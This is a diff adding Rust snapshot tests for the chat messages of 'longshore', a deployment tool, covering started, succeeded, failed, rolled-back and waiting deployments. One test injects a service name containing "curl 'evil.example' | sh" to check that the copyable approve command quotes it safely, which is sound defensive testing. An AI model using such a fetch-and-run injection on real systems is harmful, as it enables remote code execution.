@@ -1,0 +1,223 @@
+//! Messages of deployments and of release files.
+
+use longshore_events::longshore::{
+    DeploymentSucceeded, DeploymentSuperseded, FailedPhase, LongshoreEvent, SkipReason, Source,
+    WaitReason,
+};
+
+use super::scene::{
+    DIGEST, after, deployment, failed, failed_in, message, never_started, refused, release,
+    rolled_back, skipped, started, task_failure, texts, waiting,
+};
+
+#[test]
+fn a_push_that_is_deployed() {
+    insta::assert_json_snapshot!(message(&started(Source::Push)));
+}
+
+#[test]
+fn a_release_file_that_is_deployed() {
+    insta::assert_json_snapshot!(message(&started(release())));
+}
+
+#[test]
+fn a_manual_payload_that_is_deployed() {
+    insta::assert_json_snapshot!(message(&started(Source::Manual {
+        note: Some("rolling forward".to_owned()),
+    })));
+}
+
+#[test]
+fn a_deployment_that_succeeded() {
+    insta::assert_json_snapshot!(message(&LongshoreEvent::DeploymentSucceeded(
+        DeploymentSucceeded {
+            deployment: deployment(Source::Push),
+            finished_at: after(72),
+        }
+    )));
+}
+
+#[test]
+fn a_deployment_by_digest_that_succeeded() {
+    let mut deployment = deployment(Source::Manual { note: None });
+    deployment.image.tag = None;
+    insta::assert_json_snapshot!(message(&LongshoreEvent::DeploymentSucceeded(
+        DeploymentSucceeded {
+            deployment,
+            finished_at: after(72),
+        }
+    )));
+}
+
+#[test]
+fn a_deployment_that_failed_and_is_being_rolled_back() {
+    insta::assert_json_snapshot!(message(&failed(
+        true,
+        vec![
+            task_failure("0f3c1", 1),
+            never_started("0f3c2"),
+            task_failure("0f3c3", 1),
+        ],
+    )));
+}
+
+#[test]
+fn a_deployment_that_failed_for_good_with_no_task_that_died() {
+    insta::assert_json_snapshot!(message(&failed(false, Vec::new())));
+}
+
+#[test]
+fn a_deployment_that_was_rolled_back() {
+    insta::assert_json_snapshot!(message(&rolled_back()));
+}
+
+#[test]
+fn a_deployment_that_was_superseded() {
+    insta::assert_json_snapshot!(message(&LongshoreEvent::DeploymentSuperseded(
+        DeploymentSuperseded {
+            deployment: deployment(Source::Push),
+            finished_at: after(12),
+            superseded_by: format!("shop/api:v4@{DIGEST}"),
+        }
+    )));
+}
+
+#[test]
+fn a_deployment_that_was_skipped() {
+    insta::assert_json_snapshot!(message(&skipped(SkipReason::FailedBefore)));
+}
+
+#[test]
+fn a_deployment_that_waits_for_each_reason() {
+    let services = |names: &[&str]| names.iter().map(|&name| name.to_owned()).collect();
+    for (name, reason, until) in [
+        (
+            "the_end_of_a_hold",
+            WaitReason::Held {
+                note: Some("the sale\nask Ada".to_owned()),
+            },
+            Some(after(86_400)),
+        ),
+        ("somebody_to_resume", WaitReason::Held { note: None }, None),
+        ("a_freeze_window", WaitReason::Frozen, Some(after(7_200))),
+        ("approval", WaitReason::Approval, Some(after(28_800))),
+        (
+            "other_services",
+            WaitReason::Predecessors {
+                services: services(&["migrate", "worker"]),
+            },
+            None,
+        ),
+    ] {
+        insta::assert_json_snapshot!(
+            format!("a_deployment_that_waits_for__{name}"),
+            message(&waiting(reason, until))
+        );
+    }
+}
+
+#[test]
+fn what_is_copied_from_a_message_runs_nothing_else() {
+    let LongshoreEvent::DeploymentWaiting(mut event) = waiting(WaitReason::Approval, None) else {
+        unreachable!("it is made as one");
+    };
+    event.service = "api; curl 'evil.example' | sh".to_owned();
+    let message = message(&LongshoreEvent::DeploymentWaiting(event));
+    let command = texts(&message)
+        .into_iter()
+        .find(|text| text.contains("longshore approve"))
+        .unwrap();
+    assert!(
+        command.contains(
+            r"longshore approve 'shop/api; curl '\''evil.example'\'' | sh' --digest sha256:"
+        ),
+        "{command}"
+    );
+}
+
+#[test]
+fn of_the_services_that_come_first_the_first_are_named_and_the_rest_is_counted() {
+    let services = (0..30).map(|number| format!("part-{number}")).collect();
+    let text = message(&waiting(WaitReason::Predecessors { services }, None)).text;
+    assert!(
+        text.contains("`part-9`, … and 20 more services to run"),
+        "{text}"
+    );
+}
+
+#[test]
+fn a_rollback_by_hand_is_called_one() {
+    let source = || Source::Rollback {
+        to: 41,
+        note: Some("the checkout is broken".to_owned()),
+    };
+    insta::assert_json_snapshot!(message(&started(source())));
+    let succeeded = message(&LongshoreEvent::DeploymentSucceeded(DeploymentSucceeded {
+        deployment: deployment(source()),
+        finished_at: after(72),
+    }));
+    assert_eq!(
+        succeeded.text,
+        "✅ Rollback succeeded: shop/api v3, in 1 min 12 s"
+    );
+}
+
+#[test]
+fn a_deployment_that_failed_says_what_the_service_runs() {
+    for (phase, reason) in [
+        (
+            FailedPhase::Before,
+            "task `migrate`, which runs before the update, failed: container api exited with 1; the \
+             service was not updated",
+        ),
+        (
+            FailedPhase::After,
+            "task `smoke-test`, which runs after the update, failed: container api exited with 1; the \
+             service runs the new image",
+        ),
+    ] {
+        insta::assert_json_snapshot!(
+            format!("a_deployment_that_failed__{phase:?}"),
+            message(&failed_in(phase, reason))
+        );
+    }
+}
+
+#[test]
+fn an_image_that_the_reconcile_found_says_so() {
+    let text = texts(&message(&started(Source::Reconcile))).join("\n");
+    assert!(text.contains("*Asked for by:* the reconcile"), "{text}");
+}
+
+#[test]
+fn a_release_file_that_was_refused() {
+    insta::assert_json_snapshot!(message(&refused(
+        "release file is malformed: field `imge`: unknown field `imge`, expected `image` or `note`\n\
+         repository `shop/api` is followed by no service of stack shop"
+    )));
+}
+
+#[test]
+fn an_image_that_is_put_back_after_a_change_of_the_stack() {
+    insta::assert_json_snapshot!(message(&started(Source::Stack {
+        operation_id: "file-9b1f4c02d7a85e36f0c4b1aa".to_owned(),
+        restored: true,
+    })));
+}
+
+#[test]
+fn a_deployment_of_the_stack_itself_names_the_change() {
+    let LongshoreEvent::DeploymentSkipped(mut event) = skipped(SkipReason::AlreadyRunning) else {
+        unreachable!("it is made as one");
+    };
+    event.source = Source::Stack {
+        operation_id: "change-7".to_owned(),
+        restored: false,
+    };
+    let message = message(&LongshoreEvent::DeploymentSkipped(event));
+    let told = texts(&message).join("\n");
+    assert!(
+        told.contains("*Asked for by:* change `change-7` of the stack"),
+        "{told}"
+    );
+}
